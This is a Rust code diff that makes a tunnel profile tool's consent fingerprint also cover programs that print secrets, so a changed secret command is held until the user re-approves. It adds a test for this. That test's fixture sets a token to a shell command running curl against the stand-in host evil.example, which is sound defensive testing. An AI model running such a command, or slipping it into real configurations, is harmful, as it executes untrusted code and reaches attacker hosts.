@@ -1,7 +1,7 @@
 //! Which command of each profile its user agreed to. One that was changed by somebody else is held until the user has
 //! seen the old beside the new.
 
-use std::collections::BTreeMap;
+use std::collections::{BTreeMap, BTreeSet};
 use std::ffi::OsString;
 use std::path::PathBuf;
 use std::sync::{Mutex, MutexGuard, OnceLock, PoisonError};
@@ -9,7 +9,7 @@ use std::sync::{Mutex, MutexGuard, OnceLock, PoisonError};
 use base64::Engine as _;
 use base64::engine::general_purpose::URL_SAFE_NO_PAD;
 use culvert_instance::Terms;
-use culvert_profiles::{Profile, ProfileKey, write_whole};
+use culvert_profiles::{Profile, ProfileKey, SecretRef, write_whole};
 use culvert_protocol::Cause;
 use culvert_tunnel::LocalServer;
 use serde::{Deserialize, Serialize};
@@ -119,7 +119,14 @@ impl Agreement {
         // References say where secrets are, never what they are; a literal says nothing.
         let env = secrets.and_then(|secrets| secrets.env.as_ref()).map(|env| format!("{:?}", env.value));
         let headers = secrets.and_then(|secrets| secrets.headers.as_ref()).map(|given| format!("{:?}", given.value));
-        let all = serde_json::json!([command, env, headers]).to_string();
+        let mut shown = serde_json::to_value(&command).unwrap_or_default();
+        if let Some(members) = shown.as_object_mut()
+            && programs(profile).is_empty()
+        {
+            // Agreed to before there was this member, it still is.
+            members.remove("programs");
+        }
+        let all = serde_json::json!([shown, env, headers]).to_string();
         let hash = ring::digest::digest(&ring::digest::SHA256, all.as_bytes());
         Agreed { fingerprint: URL_SAFE_NO_PAD.encode(hash), command }
     }
@@ -175,7 +182,7 @@ impl Terms for Agreement {
 /// A profile's command as it would run, without `path`, which is none of its own.
 pub fn whole(profile: &Profile, path: Option<&OsString>) -> WholeCommand {
     let Some(tunnel) = profile.tunnels.first() else {
-        return WholeCommand::Url { url: String::new(), headers: Vec::new() };
+        return WholeCommand::Url { url: String::new(), headers: Vec::new(), programs: Vec::new() };
     };
     let hidden = |name: &String| ShownPair { name: name.clone(), value: None };
     match &tunnel.config.server {
@@ -194,13 +201,28 @@ pub fn whole(profile: &Profile, path: Option<&OsString>) -> WholeCommand {
                 line: shell_words::join(words),
                 folder: command.cwd.as_ref().map(|folder| folder.to_string_lossy().into_owned()),
                 environment,
+                programs: programs(profile),
             }
         }
         LocalServer::StreamableHttp { url, .. } | LocalServer::Sse { url, .. } => {
             let headers = tunnel.secrets.headers.iter().flat_map(|given| &given.value);
-            WholeCommand::Url { url: url.to_string(), headers: headers.map(|(name, _)| hidden(name)).collect() }
+            WholeCommand::Url {
+                url: url.to_string(),
+                headers: headers.map(|(name, _)| hidden(name)).collect(),
+                programs: programs(profile),
+            }
         }
     }
+}
+
+/// The programs that print a profile's secrets: they run as well.
+fn programs(profile: &Profile) -> Vec<String> {
+    let references = profile.tunnels.iter().flat_map(|tunnel| tunnel.secrets.all());
+    let lines = references.filter_map(|reference| match reference {
+        SecretRef::Command(words) => Some(shell_words::join(words)),
+        _ => None,
+    });
+    lines.collect::<BTreeSet<_>>().into_iter().collect()
 }
 
 #[cfg(test)]
@@ -242,6 +264,30 @@ mod tests {
         assert_eq!(later.allow(&old), Err(Cause::CommandChanged));
         assert_eq!(later.allow(&new), Ok(()));
         assert_eq!(later.held(&old.key), None, "changed back, nothing waits");
+    }
+
+    #[test]
+    fn a_program_that_prints_a_secret_is_agreed_to_as_well() {
+        let folder = tempfile::tempdir().unwrap();
+        let agreement = Agreement::read(folder.path().join("agreed.json"));
+        let with_token = |token: &str| {
+            let mut draft = Draft::default();
+            draft.set_id(ProfileId::of_random([7; 16]));
+            draft.set_text(Key::LocalStdio, "uvx a");
+            draft.set_text(Key::Token, token);
+            draft.set_gateways(&[DraftGateway { address: "https://gw".to_owned(), token: None }]);
+            draft.profile(Path::new("p.yaml"), &Surroundings::of_this_process()).unwrap()
+        };
+        agreement.expect(&with_token("env:TOKEN"));
+        assert_eq!(agreement.allow(&with_token("file:/run/token")), Ok(()), "nothing else runs");
+        let other = with_token("command:sh -c 'curl evil.example'");
+        assert_eq!(agreement.allow(&other), Err(Cause::CommandChanged));
+        let held = agreement.held(&other.key).unwrap();
+        let WholeCommand::Command { programs, .. } = &held.now.command else { panic!("a command") };
+        assert_eq!(programs, &["sh -c 'curl evil.example'"]);
+        assert!(!agreement.is_agreed(&other));
+        assert!(agreement.agree(other.key.as_str(), &held.now.fingerprint));
+        assert_eq!(agreement.allow(&other), Ok(()));
     }
 
     #[test]
